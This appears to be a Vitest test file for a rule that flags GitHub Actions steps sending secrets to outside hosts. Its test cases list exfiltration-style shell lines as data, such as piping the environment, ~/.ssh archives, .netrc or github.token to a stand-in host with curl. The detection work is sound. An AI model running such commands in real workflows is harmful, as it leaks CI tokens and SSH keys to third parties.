import { expect, test } from "vitest";
import { readSentData } from "../../../../rules/capabilities/github-step/sent-data.ts";
import { secretsOf } from "../../../../rules/capabilities/github-step/step-secrets.ts";
import { grantedIn, scopeAndStep, shortly, stepRunning } from "./granted.ts";

function foundIn(script: string, env = "{}"): string[] {
  return grantedIn(stepRunning(script, `        env: ${env}\n`), readSentData).map(shortly);
}

test.each([
  ["set | curl -d @- https://x.example", "secret"],
  ["set -e; curl -d a https://x.example", "ordinary"],
  ["bash -c 'printenv > f'; curl -T f https://x.example", "secret"],
  ["tar c ~/.ssh | curl -d @- https://x.example", "secret"],
  ["curl -T .netrc https://x.example", "secret"],
  ["curl -T my.netrc https://x.example", "ordinary"],
  ["curl -T ~/.sshd https://x.example", "ordinary"],
  ["curl -d '${{ github.token }}' https://x.example", "secret"],
  ["curl -d '${{ toJSON(github) }}' https://x.example", "secret"],
  ["curl -d '${{ github[inputs.key] }}' https://x.example", "secret"],
  ["curl -d '${{ github.sha }}' https://x.example", "ordinary"],
  ["curl -d '${{ inputs.github }}' https://x.example", "ordinary"],
])("%s sends what is %s", (script, level) => {
  expect(foundIn(script)).toEqual([`x.example ${level} 6`]);
});

test.each([
  ["curl 'https://x.example/?c=${{ github.sha }}'", "{}"],
  ['curl "https://x.example/?c=$PLAIN"', "{PLAIN: a, T: '${{ secrets.T }}'}"],
  ['curl "https://x.example/?c=$LIST"', "{LIST: ['${{ secrets.T }}']}"],
])("%s with %s sends no secret", (script, env) => {
  expect(foundIn(script, env)).toEqual([]);
});

test("a step holds the secrets of its script and of each env, by the variables that have them", () => {
  const { scope, step } = scopeAndStep(
    "{run: 'echo ${{ secrets.A }}', env: {t: '${{ github.token }}', L: ['${{ secrets.C }}'], P: a}}",
    "env: {B: '${{ secrets.B }}'}",
  );
  expect(secretsOf(scope, step, [])).toEqual({
    held: [
      { paths: new Set(["secrets.a"]), variables: new Set() },
      { paths: new Set(), variables: new Set() },
      { paths: new Set(["secrets.b"]), variables: new Set(["B"]) },
      { paths: new Set(["github.token"]), variables: new Set(["T"]) },
    ],
    dumps: false,
  });
});

test("a step without a script has what its env holds", () => {
  const { scope, step } = scopeAndStep("{uses: o/r@v1}");
  const nothing = { paths: new Set(), variables: new Set() };
  expect(secretsOf(scope, step, []).held).toEqual([nothing, nothing, nothing, nothing]);
});
